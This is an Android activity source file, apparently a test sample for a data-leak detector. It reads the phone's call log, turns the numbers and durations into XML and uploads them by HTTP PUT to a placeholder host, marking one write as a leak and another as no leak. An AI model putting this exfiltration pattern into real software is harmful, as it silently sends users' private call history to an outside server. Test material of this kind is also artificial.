package ways;

import android.app.Activity;
import android.app.LoaderManager;
import android.content.CursorLoader;
import android.content.Loader;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog;
import android.util.Xml;
import java.io.StringWriter;
import java.net.HttpURLConnection;
import java.net.URL;
import org.xmlpull.v1.XmlSerializer;

/** The call log, loaded by a loader, as XML. */
public class CallXml extends Activity implements LoaderManager.LoaderCallbacks<Cursor> {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        getLoaderManager().initLoader(0, null, this);
    }

    @Override
    public Loader<Cursor> onCreateLoader(int id, Bundle args) {
        return new CursorLoader(this, CallLog.Calls.CONTENT_URI, null, null, null, CallLog.Calls.DATE + " DESC");
    }

    @Override
    public void onLoadFinished(Loader<Cursor> loader, Cursor data) {
        StringWriter text = new StringWriter();
        StringWriter empty = new StringWriter();
        try {
            XmlSerializer xml = Xml.newSerializer();
            xml.setOutput(text);
            xml.startDocument("UTF-8", true);
            xml.startTag(null, "calls");
            while (data.moveToNext()) {
                xml.startTag(null, "call");
                xml.attribute(null, "number", data.getString(data.getColumnIndex(CallLog.Calls.NUMBER)));
                xml.text(data.getString(data.getColumnIndex(CallLog.Calls.DURATION)));
                xml.endTag(null, "call");
            }
            xml.endTag(null, "calls");
            xml.endDocument();
            XmlSerializer none = Xml.newSerializer();
            none.setOutput(empty);
            none.startTag(null, "calls").text("none").endTag(null, "calls");
            none.flush();
            HttpURLConnection c = (HttpURLConnection) new URL("https://calls.example.org/up").openConnection();
            c.setRequestMethod("PUT");
            c.getOutputStream().write(empty.toString().getBytes()); // no leak
            c.getOutputStream().write(text.toString().getBytes("UTF-8")); // leak
        } catch (Exception e) {
            finish();
        }
    }

    @Override
    public void onLoaderReset(Loader<Cursor> loader) {
    }
}
